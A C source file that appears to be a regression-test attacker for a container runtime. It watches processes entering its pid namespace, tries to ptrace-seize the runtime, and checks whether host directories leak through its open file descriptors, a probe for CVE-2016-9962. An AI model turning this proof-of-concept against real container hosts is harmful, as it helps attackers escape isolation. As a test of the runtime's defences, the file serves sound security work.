/* SPDX-License-Identifier: MIT */
/* thief -- the attacker of CVE-2016-9962: looks at each process that comes into
 * its pid namespace, as early as it can, until killed.  Prints a line, once for
 * each process, when it
 *   "saw" a program of the runtime: its exe is a file without a name;
 *   "seized" it: ptrace let us;
 *   "stole" a directory of another device than our root and /proc from it. */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

enum { PIDS = 1 << 16, SAW = 1, SEIZED = 2, STOLE = 4 };

static unsigned char met[PIDS];
static struct stat root, proc;

static void
once(int pid, unsigned char what, const char *word)
{
	if (!(met[pid] & what))
		printf("%s %d\n", word, pid);
	met[pid] |= what;
}

static int
is_runtime(int pid)
{
	char path[64], exe[256];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, exe, sizeof(exe) - 1);
	if (n < 0)
		return 0;
	exe[n] = '\0';
	return strstr(exe, "wherry") != NULL;
}

static void
steal(int pid)
{
	char path[64];
	struct stat st;

	for (int fd = 0; fd < 24; fd++) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%d/.", pid, fd);
		if (stat(path, &st) == 0 && st.st_dev != root.st_dev &&
		    st.st_dev != proc.st_dev)
			once(pid, STOLE, "stole");
	}
}

static void
seize(int pid)
{
	int status, runtime;

	if (ptrace(PTRACE_SEIZE, pid, 0, 0))
		return;
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	waitpid(pid, &status, __WALL);
	runtime = is_runtime(pid);
	if (runtime)
		once(pid, SEIZED, "seized");
	ptrace(PTRACE_DETACH, pid, 0, 0);
	if (!runtime)
		met[pid] |= SEIZED;
}

int
main(void)
{
	int self = getpid(), top = 1;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (stat("/", &root) || stat("/proc", &proc))
		return 1;
	puts("ready");
	for (int pid = 1;; pid = pid < top + 16 ? pid + 1 : top > 64 ?
	    top - 64 : 1) {
		if (pid == self || pid >= PIDS || kill(pid, 0))
			continue;
		if (pid > top)
			top = pid;
		steal(pid);
		if (is_runtime(pid))
			once(pid, SAW, "saw");
		if (!(met[pid] & SEIZED))
			seize(pid);
	}
}
